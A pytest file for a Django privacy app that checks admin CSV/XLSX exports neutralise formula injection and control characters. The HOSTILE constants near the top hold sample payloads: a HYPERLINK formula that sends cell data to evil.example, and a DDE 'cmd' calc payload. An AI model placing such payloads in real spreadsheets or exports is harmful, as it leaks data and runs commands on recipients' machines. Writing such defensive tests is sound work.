"""Every export is safe to open: no live formula from typed text, no character that breaks XLSX.

The general test takes every admin that offers an export (ours and any third party's), with the
demo data set loaded and every exported value replaced by hostile text, and opens what it gives
Legal in openpyxl (XLSX) or reads it as CSV.
"""

import csv
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from import_export.admin import ExportMixin
from import_export.resources import Resource

from privacyops.core import roles
from privacyops.core.spreadsheets import (
    FORMULA_PREFIXES,
    SPREADSHEET_FORMATS,
    SafeCSV,
    SafeXLSX,
    cell_safe,
)
from tests.factories import UserFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"Open")\x01'
HOSTILE_VALUES = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\x1b\x07bell"]


def _exporting_admins():
    return sorted(
        (
            (model, model_admin)
            for model, model_admin in admin.site._registry.items()
            if isinstance(model_admin, ExportMixin)
        ),
        key=lambda pair: pair[0]._meta.label,
    )


EXPORTING = _exporting_admins()


@given(st.text())
def test_a_safe_cell_is_never_a_formula_and_holds_no_control_character(text):
    safe = cell_safe(text)
    assert not safe.startswith(FORMULA_PREFIXES)
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in safe)
    if not text.startswith(FORMULA_PREFIXES) and text.isprintable():
        assert safe == text  # ordinary text is left alone


def test_numbers_and_dates_are_left_as_they_are():
    assert cell_safe(-5) == -5 and cell_safe(None) is None


@pytest.mark.parametrize(
    ("model", "model_admin"), EXPORTING, ids=lambda v: getattr(v, "__name__", "")
)
def test_every_export_offers_only_the_safe_formats(model, model_admin):
    offered = model_admin.get_export_formats()
    assert offered, model._meta.label
    assert all(issubclass(fmt, SafeCSV | SafeXLSX) for fmt in offered), offered


def _xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_formats_neutralise_every_hostile_cell():
    dataset = tablib.Dataset(*[[value, "plain"] for value in HOSTILE_VALUES], headers=["a", "b"])
    for fmt in SPREADSHEET_FORMATS:
        exported = fmt().export_data(dataset)
        if fmt is SafeXLSX:
            cells = list(_xlsx_cells(exported))
            assert not [c.coordinate for c in cells if c.data_type == "f"]
            assert all(not str(c.value or "").startswith("=") for c in cells)
        else:
            for row in csv.reader(io.StringIO(exported)):
                assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row), row


@pytest.fixture
def hostile_exports(monkeypatch):
    """Every value any resource exports is hostile text, as if outsiders had typed it all."""

    def export_field(self, field, instance, **kwargs):
        return HOSTILE_VALUES[instance.pk % len(HOSTILE_VALUES)] if instance.pk else HOSTILE

    monkeypatch.setattr(Resource, "export_field", export_field)


def _export_post(model_admin, fmt_index: int, request) -> dict:
    resource_class = model_admin.get_export_resource_classes(request)[0]
    resource = resource_class()
    prefix = resource_class.__name__.lower()
    data = {"format": str(fmt_index), "resource": "0", "export_items": []}
    data.update({f"{prefix}_{name}": "on" for name in resource.get_export_order()})
    return data


@pytest.mark.django_db
def test_every_admin_export_with_hostile_rows_opens_without_a_formula(client, hostile_exports):
    call_command("seed_demo", verbosity=0)
    legal = UserFactory(username="lena-exports", role=roles.LEGAL)
    client.force_login(legal)
    checked = 0
    for model, model_admin in EXPORTING:
        opts = model._meta
        url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
        page = client.get(url)
        if page.status_code != 200:  # Legal may not export this (the role matrix covers it)
            continue
        request = page.wsgi_request
        formats = model_admin.get_export_formats()
        xlsx = next(i for i, fmt in enumerate(formats) if issubclass(fmt, SafeXLSX))
        response = client.post(url, _export_post(model_admin, xlsx, request))
        assert response.status_code == 200, (opts.label, response.content[:300])
        cells = list(_xlsx_cells(response.content))
        assert not [c.coordinate for c in cells if c.data_type == "f"], opts.label
        assert all(not str(c.value or "").startswith("=") for c in cells), opts.label
        if model_admin.get_export_queryset(request).exists():
            written = {cell_safe(value, prefixes=("=",)) for value in HOSTILE_VALUES}
            assert any(c.value in written for c in cells), opts.label
        checked += 1
    assert checked >= len(EXPORTING) // 2


@pytest.mark.django_db
def test_the_consent_evidence_csv_is_safe_to_open(client, monkeypatch):
    from privacyops.marketing import selectors as marketing_selectors
    from tests.factories import DataSubjectFactory

    subject = DataSubjectFactory()
    monkeypatch.setattr(
        marketing_selectors, "consent_evidence_rows", lambda subject: [HOSTILE_VALUES, ["ok"]]
    )
    client.force_login(UserFactory(username="lena-evidence", role=roles.LEGAL))
    response = client.get(reverse("admin:marketing_subscription_evidence", args=[subject.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["ok"]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in rows[0])
